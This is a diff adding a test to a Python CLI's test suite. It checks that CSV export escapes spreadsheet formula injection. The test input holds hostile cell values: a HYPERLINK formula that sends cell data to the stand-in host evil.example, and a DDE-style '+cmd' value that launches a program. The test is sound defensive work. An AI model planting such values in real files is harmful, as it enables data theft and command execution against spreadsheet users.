@@ -350,3 +350,22 @@ def test_analyze_into_a_file_is_refused_before_anything_is_stored(tmp_path, cli)
     rc, _, err = cli("analyze", art, "--db", tmp_path / "s.db", "--out", tmp_path / "report")
     assert rc == 1 and "is a file" in err
     assert not (tmp_path / "s.db").exists()
+
+
+def test_csv_cells_cannot_be_spreadsheet_formulas(tmp_path, cli):
+    src = tmp_path / "hostile.jsonl"
+    src.write_text(json.dumps({"title": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+                               "text": "Body words of a hostile article, long enough.",
+                               "outlet": "+cmd|' /C calc'!A0", "author": "@SUM(1+1)"}) + "\n",
+                   encoding="utf-8")
+    db = tmp_path / "s.db"
+    assert cli("ingest", src, "--db", db)[0] == 0
+    out = tmp_path / "x.csv"
+    assert cli("export", "--db", db, "--format", "csv", "--out", out)[0] == 0
+    with open(out, newline="", encoding="utf-8") as fh:
+        row = next(csv.DictReader(fh))
+    assert row["title"].startswith("'=HYPERLINK(")
+    assert row["outlet"] == "'+cmd|' /C calc'!A0" and row["author"] == "'@SUM(1+1)"
+    # JSON Lines keep the text as it is (it is data, not a sheet)
+    rc, text, _ = cli("export", "--db", db)
+    assert json.loads(text)["title"].startswith("=HYPERLINK(")
